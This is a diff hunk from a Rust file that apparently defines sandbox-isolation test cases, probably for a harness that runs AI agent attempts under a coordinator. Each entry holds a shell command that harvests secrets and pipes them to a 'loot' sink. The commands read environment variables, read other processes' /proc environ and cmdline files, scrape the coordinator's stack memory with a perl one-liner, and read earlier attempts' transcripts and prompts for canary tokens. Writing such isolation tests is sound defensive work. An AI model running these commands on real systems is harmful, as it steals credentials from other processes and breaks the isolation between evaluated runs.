@@ -66,7 +66,7 @@ pub(super) fn attacks() -> Vec<Attack> {
         say("environment", "a secret in its own environment", "env | loot", "env"),
         say("coordinator-environment", "the coordinator's environment", "cat /proc/$(coordinator)/environ | grep -az '^SECRET_' | loot", "env-of-coordinator"),
         say("every-environment", "every environment in /proc", "for f in /proc/[0-9]*/environ; do grep -az '^TURNO_VICTIM=' $f; done 2>/dev/null | head -c 2000 | loot", "env-of-victim"),
-        say("command-lines", "every command line in /proc", "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; done 2>/dev/null | grep -ao 'canary-cmdline[A-Za-z0-9-]*' | head -1 | loot", "cmdline"),
+        say("command-lines", "every command line in /proc", "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; done 2>/dev/null | grep -ao 'canary-cmdline[A-Za-z0-9-]*' | sort -u | loot", "cmdline"),
         say("coordinator-memory", "the coordinator's memory", "perl -e 'open M,\"<\",\"/proc/$ARGV[0]/maps\" or exit; for(<M>){next unless /^(\\w+)-(\\w+) .*\\[stack\\]/; open F,\"<:raw\",\"/proc/$ARGV[0]/mem\" or exit; sysseek F,hex $1,0; sysread F,$b,hex($2)-hex($1); print \"$1\\n\" while $b=~/(SECRET_[\\w=-]+)/g}' \"$(coordinator)\" | loot", "env-of-coordinator"),
         say("old-transcript-read", "what an earlier attempt said", "cat '@STATE@'/attempts/*/out | grep -ao 'canary-transcript[A-Za-z0-9-]*' | head -1 | loot", "transcript"),
         say("old-prompt-read", "what an earlier attempt was told", "grep -rhao 'canary-issue[A-Za-z0-9-]*' '@STATE@/attempts' | head -1 | loot", "issue"),
